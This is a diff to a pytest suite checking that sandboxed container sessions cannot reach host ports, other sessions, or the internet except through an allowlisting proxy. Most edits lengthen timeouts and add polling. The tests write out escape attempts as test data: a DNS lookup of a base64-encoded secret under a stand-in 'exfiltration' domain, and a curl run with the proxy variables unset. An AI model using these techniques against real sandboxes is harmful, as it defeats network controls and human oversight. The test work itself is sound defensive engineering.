@@ -15,7 +15,7 @@ from pathlib import Path
 
 import pytest
 from attacks import Field
-from helpers import User, docker, free_port, wait_until
+from helpers import User, docker, free_port, listens, wait_until
 from probes import (
     BY_SIDECAR,
     INTERNET,
@@ -44,7 +44,7 @@ from probes import (
     volumes_of,
 )
 
-pytestmark = [pytest.mark.timeout(300), pytest.mark.xdist_group("network")]
+pytestmark = pytest.mark.xdist_group("network")
 
 HOST = "host.docker.internal"
 SECRET = "made-up-and-never-to-be-seen"
@@ -78,14 +78,17 @@ def test_the_hosts_services_are_closed(field: Field, listener: Service) -> None:
     assert set(found.values()) <= REFUSALS, found  # at once
     assert listener.connections == before
     assert not listener.got("closed")
+
     # The control: on the engine's plain network they all are in reach.
-    targets = at_host(listener)  # other tests' networks come and go
-    again = probe(field, targets, "--network", "open", tag="open", **INTERNET)
-    near = {str(target) for target in targets if target.host == gateway()}
-    assert near <= opened(again).keys(), again
-    own = {str(target) for target in targets if target.kind == "tcp" and target.host.count(".") == 3}
-    assert own <= opened(again).keys(), again
-    assert listener.got("open")
+    def all_in_reach() -> bool:
+        targets = at_host(listener)
+        again = opened(probe(field, targets, "--network", "open", tag="open", **INTERNET))
+        near = {str(target) for target in targets if target.host == gateway()}
+        own = {str(target) for target in targets if target.kind == "tcp" and target.host.count(".") == 3}
+        return near | own <= again.keys()
+
+    wait_until(all_in_reach)  # other tests' networks come and go
+    wait_until(lambda: listener.got("open"))
 
 
 @pytest.mark.root
@@ -132,8 +135,10 @@ def another(field: Field, place: Path) -> Field:
 def test_another_sessions_ports_are_closed(field: Field, another: Field) -> None:
     """N03; also to other containers."""
     with background(another, ["python3", "-c", SERVE.format(5000)], **INTERNET):
-        address = address_of(containers(another, "session")[0])
+        (name,) = containers(another, "session")
+        address = address_of(name)
         assert address
+        wait_until(lambda: listens(name, 5000))
         targets = [Target("tcp", address, 5000), Target("udp", address, 5000), Target("icmp", address)]
         assert set(probe(field, targets, **INTERNET).values()) <= REFUSALS
         # From there neither: its own side refuses it, too.
@@ -272,21 +277,21 @@ def test_no_session_reaches_an_engine(field: Field) -> None:
     assert not (field.project / "ran").exists()
 
 
+def answers_at(address: str, port: int) -> bool:
+    with contextlib.suppress(OSError), socket.create_connection((address, port), 20) as sock:
+        return sock.recv(10) == b"pong"
+    return False
+
+
 def test_ports_are_published_on_the_loopback_alone(field: Field, listener: Service) -> None:
     port = free_port()
     # Back to this machine from the very port that is open to it.
     back = shlex.join(probe_words([Target(kind, gateway(), listener.port, port) for kind in ("tcp", "udp")]))
     script = f"python3 -c {shlex.quote(SERVE.format(port))} & {back} >back.new; mv back.new back; wait"
 
-    def answers(address: str) -> bool:
-        with contextlib.suppress(OSError), socket.create_connection((address, port), 5) as sock:
-            sock.settimeout(5)
-            return sock.recv(10) == b"pong"
-        return False
-
     with background(field, ["sh", "-c", script], "--ports", str(port), **INTERNET):
-        wait_until(lambda: answers("127.0.0.1"))
-        assert [address for address in own_addresses() if answers(address)] == []
+        wait_until(lambda: answers_at("127.0.0.1", port))
+        assert [address for address in own_addresses() if answers_at(address, port)] == []
         wait_until((field.project / "back").exists)
         assert opened(probed((field.project / "back").read_text())) == {}
         address = address_of(containers(field, "session")[0])
@@ -305,10 +310,10 @@ def test_what_a_session_serves_on_its_loopback_is_published_to_this_machine_and_
     port = free_port()
     serve = SERVE.format(port).replace("0.0.0.0", "127.0.0.1")
     with background(field, ["python3", "-c", serve], "--ports", str(port), **OPEN) as (_, session), neighbour() as made:
+        wait_until(lambda: listens(session, port))
         inside = [Target("tcp", address_of(session), at) for at in (port, 61000)]
         assert opened(probed(docker("exec", made[0], *probe_words(inside)))) == {}
-        with socket.create_connection(("127.0.0.1", port), 5) as sock:  # the control
-            assert sock.recv(10) == b"pong"
+        wait_until(lambda: answers_at("127.0.0.1", port))  # the control
 
 
 # N05-N07, N10: the allowlist
@@ -337,7 +342,7 @@ def test_there_is_no_way_beside_the_proxy(
     words = shlex.join(probe_words(targets, "direct"))
     bare = "env -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u http_proxy -u https_proxy -u all_proxy "
     steps = {"with": words, "without": bare + words, "links": "ls /sys/class/net"}
-    steps["curl"] = f"{bare} curl -sS -m 20 http://{internet.address}:{port}/"
+    steps["curl"] = f"{bare} curl -sS -m 60 http://{internet.address}:{port}/"
     done = confined(field, steps, **allowed)
     assert done.code == 0, done.told
     for name in ("with", "without"):
@@ -355,8 +360,8 @@ def test_there_is_no_way_beside_the_proxy(
 ASK = """
 import json, socket, sys
 for name, request in json.loads(sys.argv[1]).items():
-    with socket.create_connection(("127.0.0.1", 3128), 20) as sock:
-        sock.settimeout(40)
+    with socket.create_connection(("127.0.0.1", 3128), 60) as sock:
+        sock.settimeout(120)
         try:
             sock.sendall(request.encode("latin-1"))
             said = sock.recv(100).split()
@@ -449,7 +454,7 @@ def test_no_name_is_asked_for_outside(field: Field, allowed: dict[str, str]) -> 
     """N06; the control is that with the internet the name server is asked."""
     secret = "c2vjcmv0.exfiltration.example.invalid"
     script = (
-        f"timeout 20 getent hosts {secret}; echo $?; timeout 20 getent ahosts x.{secret}; echo $?; cat /etc/resolv.conf"
+        f"timeout 60 getent hosts {secret}; echo $?; timeout 60 getent ahosts x.{secret}; echo $?; cat /etc/resolv.conf"
     )
     done = field.session(script, **allowed)
     assert done.stdout.splitlines()[:2] == ["2", "2"], done.stdout  # not found, and not 124: at once
@@ -519,7 +524,7 @@ class Upstream:
             with contextlib.suppress(OSError):
                 client, _ = self._listener.accept()
                 with client:
-                    client.settimeout(5)
+                    client.settimeout(60)
                     head = b""
                     while b"\r\n\r\n" not in head and (chunk := client.recv(1000)):
                         head += chunk
@@ -555,7 +560,7 @@ def test_a_companys_proxy_sees_what_is_allowed_and_nothing_else(field: Field, al
             return answers(file.read_text()) if file.exists() else {}
 
         with background(field, ["sh", "-c", script], **given) as (_, name):
-            wait_until(said, 60)
+            wait_until(said)
             assert said() == {"first": "200", "late": "403", "never": "403"}
             assert set(upstream.asked) == {"first.example.invalid:443"}
             settings_file(field.user, 'allow = ["first.example.invalid", "late.example.invalid"]\n')
@@ -616,10 +621,10 @@ def test_nothing_is_left_of_a_session_whose_tool_was_killed(field: Field, allowe
         os.kill(tool.pid, signal.SIGKILL)
         tool.wait()
         docker("rm", "--force", "--volumes", name)
-        wait_until(lambda: not containers(field, "sidecar"), 30)
+        wait_until(lambda: not containers(field, "sidecar"))
     assert field.session("true", **given).returncode == 0
     settle(field)
-    assert not used & volumes()
+    wait_until(lambda: not used & volumes())  # the engine removes a container first, then its volumes
 
 
 @pytest.mark.root
@@ -635,7 +640,7 @@ def test_a_session_without_its_sidecar_has_no_network(
     asking = shlex.join(["python3", "-c", ASK, json.dumps({"named": connect(f"{HOST}:{listener.port}")})])
     words = shlex.join(probe_words(targets))
     script = (
-        f"until [ -e go ]; do sleep .1; done; {words} >found; timeout 30 {asking} >asked 2>&1; touch over; sleep 60"
+        f"until [ -e go ]; do sleep .1; done; {words} >found; timeout 200 {asking} >asked 2>&1; touch over; sleep 600"
     )
     with background(field, ["sh", "-c", script], **given) as (tool, _):
         docker("kill", *containers(field, "sidecar"))
@@ -647,7 +652,7 @@ def test_a_session_without_its_sidecar_has_no_network(
             assert line, said
             said += line
         (field.project / "go").touch()
-        wait_until((field.project / "over").exists, 60)
+        wait_until((field.project / "over").exists)
         assert opened(probed((field.project / "found").read_text())) == {}
         assert answers((field.project / "asked").read_text()).get("named", "") != "200"
     settle(field)
